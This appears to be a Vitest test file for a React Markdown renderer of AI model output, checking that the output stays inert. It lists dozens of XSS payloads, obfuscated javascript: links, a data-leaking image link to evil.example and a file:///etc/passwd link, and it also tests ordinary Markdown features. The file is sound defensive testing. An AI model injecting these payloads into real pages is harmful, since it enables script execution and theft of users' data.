import { render, screen } from "@testing-library/react";
import { describe, expect, test } from "vitest";
import { safeLink } from "../src/markdown/links";
import { Markdown } from "../src/markdown/Markdown";

function shown(text: string, finished = true): HTMLElement {
  return render(<Markdown text={text} finished={finished} />).container;
}

// Ways in which text has become script or a request elsewhere.
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<style>@import url(https://evil.example/x.css)</style>",
  '<a href="javascript:alert(1)">x</a>',
  '<div style="background:url(https://evil.example/)">x</div>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<form action="https://evil.example/"><button>x</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](&#106;avascript:alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](blob:https://here/1)",
  "[x](file:///etc/passwd)",
  "[x](/api/v1/session)",
  "[x](//evil.example/)",
  '[x](https://evil.example/"onmouseover="alert(1))',
  "[x][y]\n\n[y]: javascript:alert(1)",
  "<javascript:alert(1)>",
  "![x](https://evil.example/leak?secret)",
  "![x](javascript:alert(1))",
  "![x][y]\n\n[y]: https://evil.example/leak",
  '![" onerror="alert(1)](x)',
  '```"><script>alert(1)</script>\nx\n```',
  "```html\n<script>alert(1)</script>\n```",
  "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
  "- [ ] <input autofocus onfocus=alert(1)>",
  "`<script>alert(1)</script>`",
  "<br onclick=alert(1)>",
];

const ALLOWED = new Set([
  "DIV",
  "P",
  "SPAN",
  "A",
  "EM",
  "STRONG",
  "DEL",
  "CODE",
  "PRE",
  "FIGURE",
  "FIGCAPTION",
  "BUTTON",
  "svg",
  "path",
  "UL",
  "OL",
  "LI",
  "INPUT",
  "TABLE",
  "THEAD",
  "TBODY",
  "TR",
  "TH",
  "TD",
  "BLOCKQUOTE",
  "HR",
  "BR",
  "H3",
  "H4",
  "H5",
  "H6",
]);

describe("text of a model is inert", () => {
  test.each(ATTACKS)("%s", (attack) => {
    for (const finished of [false, true]) {
      const page = shown(`before ${attack} after\n\n${attack}\n\n> ${attack}`, finished);
      for (const element of page.querySelectorAll("*")) {
        expect(ALLOWED, element.outerHTML).toContain(element.tagName);
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^style$|^src|^srcset$|^action$|^formaction$/);
          if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
        }
      }
    }
  });

  test("links leave this site without telling from where", () => {
    shown("[docs](https://example.org/a?b=c)");
    const link = screen.getByRole("link", { name: "docs" });
    expect(link.getAttribute("href")).toBe("https://example.org/a?b=c");
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
  });

  test("only absolute addresses of known kinds are links", () => {
    expect(safeLink("https://example.org")).toBe("https://example.org/");
    expect(safeLink("mailto:a@example.org")).toBe("mailto:a@example.org");
    for (const url of ["/x", "x", "#x", "//x", "ftp://x", "javascript:x", ""]) expect(safeLink(url)).toBeNull();
  });
});

describe("Markdown", () => {
  test("becomes elements", () => {
    const page = shown("## Head\n\nA **b** *i* ~~d~~ `c`\n\n1. one\n2. two\n\n> quote\n\n---\n\nhttps://example.org");
    expect(page.querySelector("h3")?.textContent).toBe("Head");
    expect(page.querySelector("strong + em + del + code")?.textContent).toBe("c");
    expect(page.querySelectorAll("ol > li")).toHaveLength(2);
    expect(page.querySelector("blockquote > p")?.textContent).toBe("quote");
    expect(page.querySelector("hr")).not.toBeNull();
    expect(screen.getByRole("link").textContent).toBe("https://example.org");
  });

  test("has tables with aligned columns", () => {
    const page = shown("| a | b |\n|:--|--:|\n| 1 | 2<br>3 |");
    expect(screen.getByRole("columnheader", { name: "b" }).className).toBe("align-right");
    expect(page.querySelector("td:last-child br")).not.toBeNull();
  });

  test("has task lists", () => {
    shown("- [x] done\n- [ ] open");
    expect(screen.getAllByRole("checkbox").map((box) => (box as HTMLInputElement).checked)).toEqual([true, false]);
  });

  test("colours code as soon as it is complete", async () => {
    const { container, rerender } = render(<Markdown text={"```python\ndef f():\n"} finished={false} />);
    expect(container.querySelector("pre")?.textContent).toBe("def f():");
    expect(container.querySelector(".hljs-keyword")).toBeNull();
    rerender(<Markdown text={"```python\ndef f():\n```\n\nmore\n\nand more"} finished={false} />);
    await screen.findByText("def");
    expect(container.querySelector(".hljs-keyword")?.textContent).toBe("def");
    expect(container.querySelector("pre")?.textContent).toBe("def f():");
  });

  test("draws finished blocks once", () => {
    const { container, rerender } = render(<Markdown text={"one\n\ntwo\n\nth"} finished={false} />);
    const first = container.querySelector("p");
    const words = first?.firstChild;
    rerender(<Markdown text={"one\n\ntwo\n\nthree\n\nfour"} finished={false} />);
    expect(container.querySelector("p")).toBe(first);
    expect(first?.firstChild).toBe(words);
    expect(container.querySelectorAll("p")).toHaveLength(4);
  });
});
